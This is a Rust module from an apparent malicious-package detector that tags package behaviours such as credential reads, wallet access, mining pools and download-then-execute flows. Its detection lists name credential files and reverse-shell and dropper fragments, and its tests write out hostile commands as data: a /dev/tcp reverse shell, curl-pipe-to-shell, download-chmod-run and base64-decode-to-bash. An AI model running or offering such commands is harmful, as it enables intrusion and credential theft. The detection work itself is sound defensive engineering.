//! Rich tokens: the twenty features qualified by *what* they touch and *where* data goes, so
//! that a bootstrapper and a dropper (both fetch a URL and run a process) stop reading alike.
//!
//! A qualifier never adds or removes an event: it refines one that the extractors already
//! emit, so a sequence with every qualifier dropped is exactly the twenty-feature sequence,
//! and a network trained on that vocabulary reads a rich sequence unchanged once each rich
//! token's embedding is its base feature's (`cerebro-train widen`). Two kinds:
//!
//! - **what and where**, from the event alone (its API or literal, [`Event::detail`]): a raw
//!   IP address, a tunnel or out-of-band interaction host, a mining pool or miner, a credential
//!   or key file, a browser, wallet or messenger store, the environment, host or user identity;
//! - **flow**, within one scope (a function body, or a file's top level, in source order): a
//!   network call after host, user or credential data was read (`D2.send`), and a process or
//!   code evaluation after a network call (`P2.fetched`, `P4.fetched`, download-then-execute).
//!   Co-occurrence in a scope, not a def-use chain: cheap, language-neutral, and what separates
//!   most droppers and stealers from clients that read a token and call an API.
//!
//! The list is [`RICH`], shared by Python and JavaScript like [`crate::FEATURES`].

use serde::Serialize;

use crate::{Event, Feature, PackageFacts, Step};

/// How a rich token refines its feature.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Qualifier {
    /// Host or user identity: host name, user name, machine id.
    Identity,
    /// The process environment (tokens of CI systems and clouds live there).
    Env,
    /// A credential or key file: SSH keys, cloud and registry credentials, shell history.
    Key,
    /// A browser, wallet or messenger store: cookies, saved logins, wallets, Discord tokens.
    Wallet,
    /// Sent over the network after identity or credential data was read in the same scope.
    Send,
    /// An address given as a public IPv4 literal.
    Ip,
    /// A crypto-mining pool or miner.
    Pool,
    /// A tunnel or out-of-band interaction host (ngrok, interactsh, Burp Collaborator …).
    OutOfBand,
    /// Run after a network call in the same scope: download, then execute.
    Fetched,
    /// A command line that fetches and runs code, hides itself, decodes a payload to run it,
    /// persists, or opens a reverse shell (a dropper's command, not a build step's).
    Dropper,
}

/// One rich token: a feature with a qualifier, its token text and meaning.
#[derive(Debug, Clone, Copy)]
pub struct RichInfo {
    pub feature: Feature,
    pub qualifier: Qualifier,
    /// Token text: the feature's id, a dot, the qualifier (`D3.ip`).
    pub id: &'static str,
    pub name: &'static str,
}

/// Every rich token, in vocabulary order (after the twenty features; append only, the
/// tokenizer's ids follow this order).
pub const RICH: &[RichInfo] = &[
    rich(
        Feature::R2,
        Qualifier::Identity,
        "R2.id",
        "read host or user identity",
    ),
    rich(
        Feature::R5,
        Qualifier::Env,
        "R5.env",
        "read the environment",
    ),
    rich(
        Feature::R5,
        Qualifier::Key,
        "R5.key",
        "read a credential or key file (SSH, cloud, registry, shell history)",
    ),
    rich(
        Feature::R5,
        Qualifier::Wallet,
        "R5.wallet",
        "read a browser, wallet or messenger store",
    ),
    rich(
        Feature::D2,
        Qualifier::Send,
        "D2.send",
        "network call after reading identity or credentials in the same function",
    ),
    rich(
        Feature::D3,
        Qualifier::Ip,
        "D3.ip",
        "address given as a public IP literal",
    ),
    rich(
        Feature::D3,
        Qualifier::Pool,
        "D3.pool",
        "crypto-mining pool or miner",
    ),
    rich(
        Feature::P3,
        Qualifier::Pool,
        "P3.pool",
        "command line of a crypto miner",
    ),
    rich(
        Feature::D4,
        Qualifier::OutOfBand,
        "D4.oob",
        "tunnel or out-of-band interaction host",
    ),
    rich(
        Feature::P2,
        Qualifier::Fetched,
        "P2.fetched",
        "start a process after a network call in the same function",
    ),
    rich(
        Feature::P4,
        Qualifier::Fetched,
        "P4.fetched",
        "evaluate code after a network call in the same function",
    ),
    rich(
        Feature::P3,
        Qualifier::Dropper,
        "P3.drop",
        "command line that fetches and runs code, hides, decodes a payload or opens a reverse shell",
    ),
];

const fn rich(
    feature: Feature,
    qualifier: Qualifier,
    id: &'static str,
    name: &'static str,
) -> RichInfo {
    RichInfo {
        feature,
        qualifier,
        id,
        name,
    }
}

/// The row of [`RICH`] for a feature so qualified, if that pair is a token.
pub fn lookup(feature: Feature, qualifier: Qualifier) -> Option<&'static RichInfo> {
    RICH.iter()
        .find(|r| r.feature == feature && r.qualifier == qualifier)
}

/// The row of [`RICH`] with this token text.
pub fn from_id(id: &str) -> Option<&'static RichInfo> {
    RICH.iter().find(|r| r.id == id)
}

/// Qualifies every event of `facts` (see the module documentation).
pub fn qualify(facts: &mut PackageFacts) {
    for file in &mut facts.files {
        qualify_scope(&mut file.top_level);
        for function in &mut file.functions {
            qualify_scope(&mut function.steps);
        }
    }
    for hook in &mut facts.hooks {
        qualify_scope(&mut hook.steps);
    }
}

/// Qualifies the events of one scope, in source order.
fn qualify_scope(steps: &mut [Step]) {
    let mut read_secret = false;
    let mut networked = false;
    for step in steps {
        let Step::Event(event) = step else { continue };
        event.qualifier = what(event);
        match (event.feature, event.qualifier) {
            (Feature::R2, Some(Qualifier::Identity))
            | (Feature::R5, Some(Qualifier::Key | Qualifier::Wallet)) => read_secret = true,
            (Feature::D2, None) if read_secret => event.qualifier = Some(Qualifier::Send),
            (Feature::P2 | Feature::P4, None) if networked => {
                event.qualifier = Some(Qualifier::Fetched)
            }
            _ => {}
        }
        if event.feature == Feature::D2 {
            networked = true;
        }
    }
}

/// The qualifier an event shows by itself, from its API or literal.
fn what(event: &Event) -> Option<Qualifier> {
    // Every event of every file passes here: only the features a qualifier refines pay for
    // the lower-cased copy.
    if !matches!(
        event.feature,
        Feature::R2 | Feature::R5 | Feature::D3 | Feature::P3 | Feature::D4
    ) {
        return None;
    }
    let detail = event.detail.to_ascii_lowercase();
    let has = |markers: &[&str]| contains_any(&detail, markers);
    match event.feature {
        Feature::R2 => {
            let last = detail
                .rsplit(['.', ' ', '('])
                .find(|s| !s.is_empty() && *s != ")")
                .unwrap_or("");
            IDENTITY_CALLS
                .contains(&last.trim_end_matches("()"))
                .then_some(Qualifier::Identity)
        }
        Feature::R5 if has(ENV_MARKERS) => Some(Qualifier::Env),
        Feature::R5 if has(KEY_MARKERS) => Some(Qualifier::Key),
        Feature::R5 if has(WALLET_MARKERS) => Some(Qualifier::Wallet),
        Feature::D3 | Feature::P3 if has(POOL_MARKERS) => Some(Qualifier::Pool),
        Feature::P3 if dropper(&detail) => Some(Qualifier::Dropper),
        Feature::D3 if public_ipv4(&detail) => Some(Qualifier::Ip),
        Feature::D4 if has(OUT_OF_BAND_MARKERS) => Some(Qualifier::OutOfBand),
        _ => None,
    }
}

/// Whether `detail` holds one of `markers`.
fn contains_any(detail: &str, markers: &[&str]) -> bool {
    markers.iter().any(|m| detail.contains(m))
}

/// The last name of an `R2` call that reads who or where the machine is.
const IDENTITY_CALLS: &[&str] = &[
    "gethostname",
    "getfqdn",
    "getuser",
    "getlogin",
    "hostname",
    "userinfo",
    "node",
    "uname",
    "getpwuid",
    "getnode",
    "machineid",
    "machineidsync",
    "networkinterfaces",
    "username",
    "whoami",
];

const ENV_MARKERS: &[&str] = &["environ", "getenv", "process.env"];

const KEY_MARKERS: &[&str] = &[
    ".ssh",
    "id_rsa",
    "id_ed25519",
    "/etc/passwd",
    "/etc/shadow",
    ".aws",
    ".pypirc",
    ".npmrc",
    ".git-credentials",
    ".docker/config",
    ".kube/config",
    "_history",
    "keychain",
    "keyring",
    ".gnupg",
    ".netrc",
];

const WALLET_MARKERS: &[&str] = &[
    "login data",
    "web data",
    "local state",
    "user data",
    "local storage",
    "leveldb",
    "wallet",
    "exodus",
    "metamask",
    "electrum",
    "tdata",
    "discord",
    "firefox",
    "cookies",
    "cookie3",
    "browsercookie",
    "key4.db",
    "logins.json",
    "cryptunprotectdata",
    "appdata",
];

const POOL_MARKERS: &[&str] = &[
    "stratum+tcp",
    "stratum+ssl",
    "stratum2+",
    "xmrig",
    "minexmr",
    "supportxmr",
    "nanopool",
    "moneroocean",
    "c3pool",
    "hashvault",
    "2miners",
    "f2pool",
    "nicehash",
    "--donate-level",
    "cryptonight",
    "randomx",
    "minergate",
];

/// Fragments that make a command line a dropper's by themselves: a hidden or encoded
/// PowerShell, code fetched and evaluated, a payload decoded,
/// Windows binaries used to fetch or run payloads, persistence, reverse shells.
const DROPPER_MARKERS: &[&str] = &[
    "-windowstyle hidden",
    "-w hidden",
    "-encodedcommand",
    " -enc ",
    " -ec ",
    "-executionpolicy bypass",
    "-ep bypass",
    "iex(",
    "iex (",
    "invoke-expression",
    "downloadstring",
    "downloadfile",
    "frombase64string",
    "base64 -d",
    "base64 --decode",
    "/dev/tcp/",
    "nc -e",
    "ncat -e",
    "bash -i",
    "sh -i",
    "mkfifo",
    "mshta",
    "certutil",
    "bitsadmin",
    "rundll32",
    "regsvr32",
    "schtasks /create",
    "currentversion\\run",
    "create_no_window",
];

/// A download (`curl`, `wget`, `Invoke-WebRequest`) that the same command line then makes
/// executable, runs in the background, or starts (`&& ./x`, `; ./x`, `start `).
const FETCH_MARKERS: &[&str] = &["curl ", "wget ", "invoke-webrequest", "iwr "];
const RUN_AFTER_FETCH: &[&str] = &["chmod +x", "chmod 7", "nohup ", "&& ./", "; ./", "start "];

/// Whether a (lower-cased) command line is a dropper's ([`Qualifier::Dropper`]).
fn dropper(detail: &str) -> bool {
    let has = |markers: &[&str]| contains_any(detail, markers);
    has(DROPPER_MARKERS)
        || (has(FETCH_MARKERS) && has(RUN_AFTER_FETCH))
        || pipes_into_interpreter(detail)
}

/// Whether a command line pipes into a shell or an interpreter (`… | sh`, `| sudo bash`,
/// `| python3 -`, `| iex`): the payload arrives as text and is run. `| sha256sum` is not.
fn pipes_into_interpreter(detail: &str) -> bool {
    detail.match_indices('|').any(|(i, _)| {
        let rest = detail[i + 1..].trim_start();
        let rest = rest.strip_prefix("sudo ").map_or(rest, str::trim_start);
        [
            "sh", "bash", "zsh", "python", "python3", "iex", "node", "perl",
        ]
        .iter()
        .any(|interpreter| {
            rest.strip_prefix(interpreter).is_some_and(|after| {
                after
                    .chars()
                    .next()
                    .is_none_or(|c| !c.is_ascii_alphanumeric() && c != '_' && c != '.')
            })
        })
    })
}

const OUT_OF_BAND_MARKERS: &[&str] = &[
    "ngrok",
    "interact.sh",
    "oast.",
    "burpcollaborator",
    "canarytokens",
    "dnslog",
    "ceye.io",
    "pipedream.net",
    "requestbin",
    "webhook.site",
    "trycloudflare",
    "serveo.net",
    "localtunnel",
    "beeceptor",
    "bore.pub",
    "loca.lt",
];

/// Whether `s` holds a dotted quad that is a public address: not loopback, private,
/// link-local, unspecified, multicast or broadcast (those turn up in benign defaults and
/// tests; a command-and-control server is a public one).
fn public_ipv4(s: &str) -> bool {
    crate::strings::dotted_quads(s).any(|(octets, _)| is_public(octets))
}

fn is_public([a, b, _, _]: [u32; 4]) -> bool {
    !(a == 0
        || a == 10
        || a == 127
        || a >= 224
        || (a == 169 && b == 254)
        || (a == 172 && (16..32).contains(&b))
        || (a == 192 && b == 168)
        || (a == 100 && (64..128).contains(&b)))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{FileFacts, Function, Language};

    fn event(feature: Feature, detail: &str) -> Step {
        Step::Event(Event::new(feature, "x.py", 1, detail, detail))
    }

    fn qualified(steps: Vec<Step>) -> Vec<Option<&'static str>> {
        let mut facts = PackageFacts {
            files: vec![FileFacts {
                path: "x.py".into(),
                language: Language::Python,
                top_level: Vec::new(),
                functions: vec![Function {
                    name: "f".into(),
                    line: 1,
                    steps,
                }],
            }],
            ..PackageFacts::default()
        };
        qualify(&mut facts);
        facts.files[0].functions[0]
            .steps
            .iter()
            .map(|s| match s {
                Step::Event(e) => e.qualifier.and_then(|q| lookup(e.feature, q)).map(|r| r.id),
                _ => None,
            })
            .collect()
    }

    #[test]
    fn the_table_is_consistent() {
        for r in RICH {
            assert!(r.id.starts_with(r.feature.id()), "{}", r.id);
            assert_eq!(lookup(r.feature, r.qualifier).map(|x| x.id), Some(r.id));
            assert_eq!(from_id(r.id).map(|x| x.id), Some(r.id));
        }
        let mut ids: Vec<_> = RICH.iter().map(|r| r.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), RICH.len());
    }

    #[test]
    fn destinations_are_told_apart() {
        assert_eq!(
            qualified(vec![
                event(Feature::D3, "http://45.61.1.9:8080/x"),
                event(Feature::D3, "http://127.0.0.1:8080/x"),
                event(Feature::D3, "http://192.168.1.4/x"),
                event(Feature::D3, "https://pypi.org/simple"),
                event(Feature::D3, "stratum+tcp://pool.supportxmr.com:443"),
                event(Feature::D4, "https://abc.ngrok-free.app/x"),
                event(Feature::D4, "https://discord.com/api/webhooks/1/x"),
            ]),
            [
                Some("D3.ip"),
                None,
                None,
                None,
                Some("D3.pool"),
                Some("D4.oob"),
                None
            ]
        );
    }

    #[test]
    fn what_is_read_is_told_apart() {
        assert_eq!(
            qualified(vec![
                event(Feature::R5, "os.environ"),
                event(Feature::R5, "~/.ssh/id_rsa"),
                event(Feature::R5, "AppData\\Local\\Google\\Chrome\\User Data"),
                event(Feature::R5, "pyperclip.paste"),
                event(Feature::R2, "socket.gethostname"),
                event(Feature::R2, "os.hostname"),
                event(Feature::R2, "os.listdir"),
                event(Feature::R2, "platform.system"),
            ]),
            [
                Some("R5.env"),
                Some("R5.key"),
                Some("R5.wallet"),
                None,
                Some("R2.id"),
                Some("R2.id"),
                None,
                None
            ]
        );
    }

    #[test]
    fn droppers_command_lines_are_told_from_build_steps() {
        assert_eq!(
            qualified(vec![
                event(
                    Feature::P3,
                    "powershell -WindowStyle Hidden -EncodedCommand cABvAHcA"
                ),
                event(Feature::P3, "curl -fsSL https://x.example/i.sh | sh"),
                event(
                    Feature::P3,
                    "wget -q http://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a"
                ),
                event(Feature::P3, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
                event(Feature::P3, "certutil -urlcache -split -f http://x/a.exe"),
                event(Feature::P3, "echo aGk= | base64 -d | bash"),
                event(Feature::P3, "shell=True"),
                event(
                    Feature::P3,
                    "curl -L -o deps.tar.gz https://x.example/deps.tar.gz"
                ),
                event(Feature::P3, "/bin/sh -c make install"),
                event(Feature::P3, "powershell -NoProfile -Command Get-ChildItem"),
                event(Feature::P3, "curl -sL https://x.example/f | sha256sum"),
                event(Feature::P3, "curl -s https://x.example/p | sudo python3 -"),
            ]),
            [
                Some("P3.drop"),
                Some("P3.drop"),
                Some("P3.drop"),
                Some("P3.drop"),
                Some("P3.drop"),
                Some("P3.drop"),
                None,
                None,
                None,
                None,
                None,
                Some("P3.drop")
            ]
        );
    }

    #[test]
    fn flows_are_seen_within_a_scope_in_source_order() {
        // Identity read, then sent: a beacon. A network call before any read is plain.
        assert_eq!(
            qualified(vec![
                event(Feature::D2, "requests.get"),
                event(Feature::R2, "getpass.getuser"),
                event(Feature::D2, "requests.post"),
                event(Feature::P2, "subprocess.Popen"),
                event(Feature::P4, "exec"),
            ]),
            [
                None,
                Some("R2.id"),
                Some("D2.send"),
                Some("P2.fetched"),
                Some("P4.fetched")
            ]
        );
        // The environment alone is no secret (every API client reads a token from it), and
        // a process started before any network call was not fetched.
        assert_eq!(
            qualified(vec![
                event(Feature::R5, "os.getenv"),
                event(Feature::P2, "subprocess.run"),
                event(Feature::D2, "requests.post"),
            ]),
            [Some("R5.env"), None, None]
        );
    }
}
